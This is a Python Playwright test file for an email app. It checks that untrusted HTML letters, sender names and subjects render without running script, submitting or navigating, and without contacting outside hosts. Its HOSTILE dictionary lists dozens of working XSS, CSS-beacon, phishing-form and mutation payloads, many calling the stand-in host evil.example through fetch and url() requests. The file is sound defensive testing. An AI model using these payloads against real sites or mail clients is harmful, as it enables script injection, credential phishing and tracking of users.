# ruff: noqa: E501 - payloads stay whole
"""A stranger's HTML in a real browser: nothing in it runs, submits, navigates or asks another host for anything."""

from __future__ import annotations

from collections.abc import Callable

import pytest
from playwright.sync_api import Page, expect

from desk.kept_letters import html_letter, keep
from letters.making_letters import make_account
from mooring.users.models import User

Open = Callable[..., Page]
EVIL = "https://evil.example"
RUNS = "document.title='ran';top.ran=1;fetch('https://evil.example/ran')"
HOSTILE = {
    "script": f"<script>{RUNS}</script>",
    "script elsewhere": f"<script src={EVIL}/x.js></script>",
    "event": f'<img src=x onerror="{RUNS}"><body onload="{RUNS}"><p onclick="{RUNS}" autofocus onfocus="{RUNS}">x',
    "javascript link": f'<a href="javascript:{RUNS}">x</a><a href="&#106;avascript:{RUNS}">y</a><a href="java\tscript:{RUNS}">z</a>',
    "data link": "<a href='data:text/html,<script>top.ran=1</script>'>x</a>",
    "svg": f'<svg onload="{RUNS}"><script>{RUNS}</script><image href="{EVIL}/i"/><use href="{EVIL}/u#x"/></svg>',
    "svg animate": f'<svg><a><animate attributeName=href values="javascript:{RUNS}"/><text>x</text></a></svg>',
    "svg filter": f'<svg><filter id=f><feImage href="{EVIL}/fe"/></filter><rect filter="url(#f)"/></svg>',
    "math": f'<math><mtext><table><mglyph><style><img src=x onerror="{RUNS}"></style></mglyph></table></mtext></math>',
    "mutation": f'<noscript><p title="</noscript><img src=x onerror={RUNS}>">',
    "iframe": f'<iframe src="{EVIL}/frame"></iframe><iframe srcdoc="<script>{RUNS}</script>"></iframe>',
    "object": f'<object data="{EVIL}/o"></object><embed src="{EVIL}/e"><applet code="{EVIL}/a"></applet>',
    "form": f'<form action="{EVIL}/form"><input name=password><button autofocus>Sign in</button></form>',
    "form elsewhere": f'<button form=x formaction="{EVIL}/f">x</button><input type=image src="{EVIL}/in">',
    "meta refresh": f'<meta http-equiv="refresh" content="0;url={EVIL}/meta">',
    "meta policy": '<meta http-equiv="Content-Security-Policy" content="default-src *">',
    "base": f'<base href="{EVIL}/"><img src="relative.png"><a href="x">x</a>',
    "link": f'<link rel=stylesheet href="{EVIL}/s.css"><link rel=prefetch href="{EVIL}/p"><link rel=dns-prefetch href="//evil.example">',
    "style import": f"<style>@import url({EVIL}/i.css); body {{ background: url({EVIL}/b) }}</style>",
    "style attribute": f'<p style="background:url({EVIL}/a);list-style-image:url({EVIL}/l);content:url({EVIL}/c)">x</p>',
    "style escapes": f'<p style="background:u\\72l({EVIL}/esc)">x</p><p style="--x:url({EVIL}/v);background:var(--x)">y</p>',
    "style overlay": '<a href="https://evil.example/over" style="position:fixed;inset:0;z-index:999999">x</a>',
    "background attribute": f'<table background="{EVIL}/t"><td background="{EVIL}/d">x</td></table><body background="{EVIL}/body">',
    "pictures": f'<img src="{EVIL}/1"><img srcset="{EVIL}/2 2x"><picture><source srcset="{EVIL}/3"></picture><img src="//evil.example/4">',
    "media": f'<video src="{EVIL}/v" poster="{EVIL}/p" autoplay></video><audio src="{EVIL}/a" autoplay></audio><bgsound src="{EVIL}/b">',
    "htmx": f'<div hx-get="/customers/" hx-trigger="load" hx-target="body">x</div><div data-hx-post="{EVIL}/h" data-hx-trigger="load">y</div>',
    "htmx events": f'<div hx-on:htmx:load="{RUNS}" hx-on--load="{RUNS}" hx-vals="js:{{x:top.ran=1}}" hx-boost=true><a href="/setup/">x</a></div>',
    "own addresses": '<img src="/accounts/logout/"><img src="/letters/1/original/"><iframe src="/setup/staff/"></iframe>',
    "portal": f'<portal src="{EVIL}/p"></portal><fencedframe src="{EVIL}/f"></fencedframe>',
    "template": f"<template shadowrootmode=open><script>{RUNS}</script><img src={EVIL}/t></template>",
    "comment": f"<!--[if IE]><script>{RUNS}</script><![endif]--><!--><img src=x onerror={RUNS}>-->",
    "xml": f'<?xml-stylesheet href="{EVIL}/x.xsl"?><x:script xmlns:x="http://www.w3.org/1999/xhtml">{RUNS}</x:script>',
    "textarea": f"<textarea><img src=x onerror={RUNS}></textarea><xmp><script>{RUNS}</script></xmp><plaintext>",
    "ping": f'<a ping="{EVIL}/ping" href="https://good.example/">x</a>',
    "dialog": '<dialog open>Sign in again</dialog><details open ontoggle="top.ran=1"><summary>x</summary></details>',
    "names": "<img name=body><form id=location><input name=cookie></form><a id=htmx></a>",
    "cid": '<img src="cid:../../accounts/logout/"><img src="cid:x"><img src="CID:%2e%2e/setup">',
}


@pytest.mark.parametrize("is_direct", [False, True], ids=["framed", "opened directly"])
def test_no_letter_runs_anything_or_asks_another_host(open_page: Open, bob: User, is_direct: bool) -> None:
    box = make_account(bob, is_main=True)
    urls = {}
    for name, html in HOSTILE.items():
        letter = keep(box, html_letter(f"<p>before</p>{html}<p>after</p>", subject=f"Hostile {name}"))
        urls[name] = f"/letters/{letter.pk}/body/" if is_direct else f"/letters/{letter.pk}/"
    page = open_page("/email/", user=bob)
    asked: list[str] = []
    page.on("request", lambda request: asked.append(request.url))
    for name, url in urls.items():
        page.goto(url)
        content = page if is_direct else page.frame_locator("iframe.letter-frame")
        expect(content.get_by_text("before", exact=True)).to_be_visible()
        assert page.evaluate("typeof top.ran") == "undefined", name
        assert page.title() != "ran", name
        assert page.url.endswith(url), name
    strangers = [url for url in asked if "evil.example" in url or "/accounts/logout" in url or "/setup/" in url]
    assert strangers == []


def test_the_frame_keeps_to_its_place(open_page: Open, bob: User) -> None:
    """An overlay of a letter covers nothing of ours: the first click on our own button works."""
    box = make_account(bob, is_main=True)
    letter = keep(box, html_letter(f'{HOSTILE["style overlay"]}<div style="position:absolute;top:-500px;height:2000px">x</div>'))
    page = open_page(f"/letters/{letter.pk}/", user=bob)
    page.get_by_text("More with this letter").click()
    expect(page.get_by_role("button", name="Never keep letters of this sender")).to_be_visible()


def test_names_and_subjects_of_strangers_are_text(open_page: Open, bob: User) -> None:
    canary = "<img src=x onerror=top.ran=1>"
    box = make_account(bob, is_main=True)
    letter = keep(box, html_letter(subject=canary, sender=f'"{canary}" <x@evil.example>', file_name=f"{canary}.pdf"))
    page = open_page("/email/", user=bob)
    for url in ("/email/", f"/email/?letter={letter.pk}", f"/letters/{letter.pk}/", "/reports/synced-emails/", "/search/?q=img"):
        page.goto(url)
        expect(page.get_by_text(canary).first).to_be_visible()
        assert page.evaluate("typeof top.ran") == "undefined", url
